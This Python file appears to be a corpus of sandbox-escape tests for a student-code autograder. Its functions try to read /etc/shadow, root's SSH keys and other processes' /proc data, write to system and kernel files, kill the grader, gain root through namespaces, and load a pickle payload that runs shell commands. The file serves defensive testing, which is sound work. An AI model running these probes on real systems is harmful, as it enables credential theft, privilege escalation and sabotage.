"""Attacks that reach for what is not theirs: files, processes, privileges, the network, the grader itself."""

from __future__ import annotations

from grader.rerun.attacks.corpus import attack


@attack(ends="by itself")
def network(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Opens connections: TCP and UDP, to the world, to this machine, and to its name servers."""
    import socket

    for family, address in ((socket.AF_INET, "198.51.100.1"), (socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(family, kind) as opened:
                    opened.settimeout(1)
                    opened.connect((address, int(port)))
                    opened.send(b"hello")
                    # A datagram to the sandbox's own loopback goes nowhere.
                    if kind == socket.SOCK_STREAM or not address.endswith("1") or address.startswith("198."):
                        print("BREACH connected to", address, port)
            except OSError as error:
                print(address, kind, error)
    try:
        print("BREACH", socket.getaddrinfo("example.org", 80))
    except OSError as error:
        print(error)


@attack(ends="by itself")
def read_secrets(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Reads the references, another student's code, the rubric, the grader's records and the TA's keys."""
    import glob
    import os

    home = os.path.expanduser("~root")
    for path in [
        secret,
        *glob.glob(os.path.dirname(secret) + "/*"),
        "/etc/shadow",
        f"{home}/.ssh",
        "/work",
        "/home",
    ]:
        try:
            if os.path.isdir(path):
                print("BREACH", path, os.listdir(path))
            else:
                with open(path, "rb") as file:
                    print("BREACH", path, file.read(4096).hex())
        except OSError as error:
            print(path, error)


@attack(ends="by itself")
def read_through_proc(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Looks for the grader's environment, files and folders through /proc of every process."""
    import os

    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) in (os.getpid(), os.getppid()):
            continue
        for name in ("environ", "mem", "maps", f"root{secret}", "fd/3"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    content = file.read(4096) if name != "mem" else b"opened"
                if content:
                    print("BREACH", pid, name, content.hex())
            except (OSError, ValueError):
                pass


@attack(ends="by itself")
def leaked_environment(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Looks in its own environment for what the TA's shell knows."""
    import os

    for name in os.environ:
        if "SECRET" in name or name in ("SSH_AUTH_SOCK", "HTTP_PROXY", "HTTPS_PROXY", "DBUS_SESSION_BUS_ADDRESS"):
            print("BREACH", name, os.environ[name])
    for number in range(3, 64):
        try:
            print("BREACH an open descriptor", number, os.readlink(f"/proc/self/fd/{number}"))
        except OSError:
            pass


@attack(ends="by itself")
def write_outside(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Writes where it should only read: the mels, its environment, the system, the kernel's settings."""
    import os

    targets = [secret, mel, f"{mel}.new", os.path.dirname(os.__file__) + "/soundfile.py", "/usr/x", "/etc/x",
               "/x", "/dev/x", "/run/x", "/var/x", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
               "/proc/sys/kernel/hostname"]  # fmt: skip
    for path in targets:
        try:
            with open(path, "ab") as file:
                file.write(b"x" if not path.startswith("/proc") else b"")
            print("BREACH wrote", path)
        except OSError as error:
            print(path, error)
    for change, arguments in ((os.remove, (mel,)), (os.chmod, (mel, 0o777)), (os.rename, (mel, mel + ".old"))):
        try:
            change(*arguments)
            print("BREACH changed", mel)
        except OSError as error:
            print(error)


@attack(ends="by itself")
def stop_the_grader(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Sends SIGSTOP and SIGKILL to its parents and to every process it can name."""
    import os
    import signal

    own = {os.getpid()}
    for pid in {os.getppid(), int(grader), 1, -1}:
        if pid in own:
            continue
        for kind in (signal.SIGSTOP, signal.SIGKILL):
            if pid == -1 and kind == signal.SIGKILL:
                continue
            try:
                os.kill(pid, kind if pid != -1 else 0)
                if pid == int(grader):
                    print("BREACH signalled", pid)
            except OSError as error:
                print(pid, error)


@attack(ends="by itself")
def output_is_a_symlink(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Leaves links to secret files in place of its clips."""
    import os

    for number, target in enumerate((secret, "/etc/shadow", "/proc/self/environ", "/dev/zero"), 1):
        os.symlink(target, f"{out}/{number:03d}.wav")
    try:
        os.link(mel, f"{out}/005.wav")
    except OSError as error:
        print(error)


@attack(ends="by itself")
def output_is_no_file(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Leaves pipes, sockets and folders in place of its clips, and takes all rights from them."""
    import os
    import socket

    os.mkfifo(f"{out}/001.wav")
    os.chdir(out)
    socket.socket(socket.AF_UNIX).bind("002.wav")
    os.makedirs("003.wav/within")
    os.chmod("003.wav", 0)
    try:
        os.mknod("004.wav", 0o20666, os.makedev(1, 5))
        print("BREACH made a device")
    except OSError as error:
        print(error)


@attack(ends="by itself")
def become_root(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Asks for a user namespace, for root, for privileges, and mounts."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for name, flag in (("user", 0x10000000), ("mount", 0x00020000), ("network", 0x40000000), ("process", 0x20000000)):
        if libc.unshare(flag) == 0:
            print("BREACH a", name, "namespace")
    for number in (56, 435):  # clone with CLONE_NEWUSER, and clone3
        child = libc.syscall(number, 0x10000000 | 17, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            print("BREACH a process in a user namespace of its own")
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0:
        print("BREACH mounted")
    if os.getuid() != 0:
        try:
            os.setuid(0)
            print("BREACH root")
        except OSError as error:
            print(error)
    for line in open("/proc/self/status"):
        if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapAmb")) and int(line.split()[1], 16):
            print("BREACH", line.strip())
        if line.startswith("NoNewPrivs") and line.split()[1] != "1":
            print("BREACH new privileges are possible")


@attack(ends="by itself")
def trace_another_process(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Attaches to its parent as a debugger would, and reaches for kernel interfaces that inference never needs."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        print("BREACH traced the parent")
    numbers = {"keyctl": 250, "bpf": 321, "perf_event_open": 298, "io_uring_setup": 425, "open_by_handle_at": 304}
    for name, number in numbers.items() if os.uname().machine == "x86_64" else ():
        if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38):
            print("BREACH", name, "errno", ctypes.get_errno())


@attack(ends="by itself")
def pickle_with_a_payload(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Model weights that are a pickle, which runs a command when they are loaded."""
    import os
    import pickle

    class Weights:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.system, (f"cat {secret} && echo BREACH; echo x > {mel} && echo BREACH",)

    pickle.loads(pickle.dumps(Weights()))


@attack(ends="by itself")
def patch_its_libraries(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Replaces the standard library that the next student's run will import."""
    import os
    import wave

    for path in (wave.__file__, os.__file__):
        try:
            with open(path, "a") as file:
                file.write("\n")
            print("BREACH patched", path)
        except OSError as error:
            print(error)


@attack(ends="by itself")
def local_sockets(secret: str, port: str, mel: str, grader: str, out: str) -> None:
    """Looks for services of this machine on local sockets: Docker, D-Bus, the X server, abstract names."""
    import os
    import socket

    abstract = "\0grader-secret-" + port
    for address in (
        "/var/run/docker.sock",
        "/run/dbus/system_bus_socket",
        "/tmp/.X11-unix/X0",
        secret + ".socket",
        abstract,
    ):
        try:
            with socket.socket(socket.AF_UNIX) as opened:
                opened.connect(address)
            print("BREACH", repr(address))
        except OSError as error:
            print(repr(address), error)
    print(os.getuid())
